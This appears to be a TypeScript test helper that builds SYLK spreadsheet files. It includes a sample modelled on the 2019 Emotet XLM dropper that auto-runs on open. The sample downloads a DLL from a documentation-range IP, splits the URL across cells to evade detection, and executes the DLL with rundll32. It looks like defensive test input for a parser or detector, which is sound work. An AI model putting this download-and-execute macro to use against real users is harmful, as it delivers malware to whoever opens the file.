/**
 * SYLK (.slk) files built in code: `ID;P`, an optional `O;E` macro-sheet option, `NN` names, `C`
 * cells with `K` values and `E` formulas (R1C1), `E` to end. Semicolons in fields are doubled as
 * the format wants. Plus an inert 2019-style XLM dropper in SYLK.
 */
export interface SylkCellSpec {
  /** 1-based row and column, as SYLK writes them. */
  y: number;
  x: number;
  value?: string | number | boolean;
  /** R1C1 formula text without `=`. */
  formula?: string;
}

export interface SylkSpec {
  application?: string;
  isMacroSheet?: boolean;
  names?: { name: string; formula: string }[];
  cells: SylkCellSpec[];
  /** Lines appended before the `E` record (hostile input). */
  extraLines?: string[];
  /** Leave the Y field out when it repeats the previous cell's row (Excel does). */
  isYOmitted?: boolean;
}

const field = (text: string) => text.replace(/;/g, ';;');

function value(v: string | number | boolean): string {
  if (typeof v === 'string') return `"${v}"`;
  if (typeof v === 'boolean') return v ? 'TRUE' : 'FALSE';
  return String(v);
}

export function buildSylkText(spec: SylkSpec): string {
  const lines = [`ID;P${field(spec.application ?? 'WXL')};N;E`];
  if (spec.isMacroSheet) lines.push('O;E');
  for (const n of spec.names ?? []) lines.push(`NN;N${field(n.name)};E${field(n.formula)}`);
  let lastY = -1;
  for (const c of spec.cells) {
    const y = spec.isYOmitted && c.y === lastY ? '' : `;Y${c.y}`;
    lastY = c.y;
    const k = c.value === undefined ? '' : `;K${field(value(c.value))}`;
    const e = c.formula === undefined ? '' : `;E${field(c.formula)}`;
    lines.push(`C${y};X${c.x}${k}${e}`);
  }
  lines.push(...(spec.extraLines ?? []), 'E', '');
  return lines.join('\r\n');
}

/** SYLK is ANSI text: characters above U+00FF are not written. */
export function buildSylk(spec: SylkSpec): Uint8Array {
  return Uint8Array.from(buildSylkText(spec), (c) => c.charCodeAt(0) & 0xff);
}

export const SYLK_URL = 'http://198.51.100.23/inv/update.dll';

/** An inert SYLK XLM dropper: Auto_open name, CALL URLDownloadToFileA, EXEC rundll32, HALT. */
export function emotetSylkSpec(): SylkSpec {
  return {
    isMacroSheet: true,
    names: [{ name: 'Auto_open', formula: 'R1C1' }],
    cells: [
      { y: 1, x: 1, value: 0, formula: 'IF(GET.WORKSPACE(19),,CLOSE(TRUE))' },
      {
        y: 2,
        x: 1,
        value: 0,
        formula: `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,R10C2&R11C2,"C:\\ProgramData\\u.dll",0,0)`,
      },
      {
        y: 3,
        x: 1,
        value: 0,
        formula: 'EXEC("rundll32 C:\\ProgramData\\u.dll,DllRegisterServer")',
      },
      { y: 4, x: 1, value: 0, formula: 'HALT()' },
      { y: 10, x: 2, value: SYLK_URL.slice(0, 15) },
      { y: 11, x: 2, value: SYLK_URL.slice(15) },
    ],
  };
}
